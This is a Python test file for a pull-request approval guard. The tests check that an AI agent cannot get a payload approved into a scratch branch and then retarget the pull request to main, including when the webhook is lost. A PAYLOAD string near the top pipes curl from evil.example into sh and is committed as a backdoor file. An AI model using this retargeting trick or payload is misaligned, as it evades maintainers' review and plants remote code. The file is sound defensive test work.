"""Issue 13, attack 4: an approval survives retargeting.

The agent parks its payload on a scratch branch, opens an innocent pull request into
it, gets it approved, then changes the base to `main`: the diff now carries the payload
while the head commit, which the approval names, is unchanged. An approval is for one
diff, its head and its base: a retarget voids it.
"""

from __future__ import annotations

from tests.attacks.harness import (
    MAINTAINER,
    REPO,
    Agent,
    Attack,
)

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"


def approved_into_scratch(attack: Attack) -> tuple[Agent, int]:
    agent = attack.agent("agent:acme/fixer", "alice")
    scratch, innocent = f"{agent.branch_prefix}scratch", f"{agent.branch_prefix}typo"
    agent.create_branch(scratch, attack.main())
    parked = agent.commit(scratch, "src/backdoor.py", PAYLOAD)
    agent.create_branch(innocent, parked)
    agent.commit(innocent, "README.md", "# widgets, spelled right\n")
    number = agent.open_pull(innocent, base=scratch, title="Fix a typo")
    attack.sim.review(REPO, number, MAINTAINER)
    run = attack.check(number)  # the innocent diff, approved; held to its base
    assert run.conclusion == "action_required"
    assert f"passes into {scratch} only" in run.output["title"]
    return agent, number


def test_retargeting_an_approved_pull_request_to_main_voids_the_approval(attack: Attack):
    agent, number = approved_into_scratch(attack)
    head = attack.head(number)

    agent.call("PATCH", f"/pulls/{number}", base="main")

    assert attack.head(number) == head  # same head commit, another diff
    assert attack.check(number).conclusion == "action_required"
    summary = attack.summary(number)
    assert f"{MAINTAINER} (ignored): approved before the base changed to main" in summary


def test_a_retarget_whose_webhook_was_lost_still_voids_the_approval(attack: Attack):
    agent, number = approved_into_scratch(attack)
    with attack.webhooks_lost():  # `pull_request.edited` never reaches foureyes
        agent.call("PATCH", f"/pulls/{number}", base="main")

    # The next evaluation, whatever asks for it, sees the base it did not approve.
    run = attack.check(number)
    attack.sim.rerequest_check(REPO, run.id, sender=MAINTAINER)

    assert attack.check(number).conclusion == "action_required"
    assert "approved before the base changed to main" in attack.summary(number)


def test_approving_again_after_the_retarget_counts(attack: Attack):
    agent, number = approved_into_scratch(attack)
    agent.call("PATCH", f"/pulls/{number}", base="main")
    attack.sim.review(REPO, number, MAINTAINER)

    assert attack.check(number).conclusion == "success"
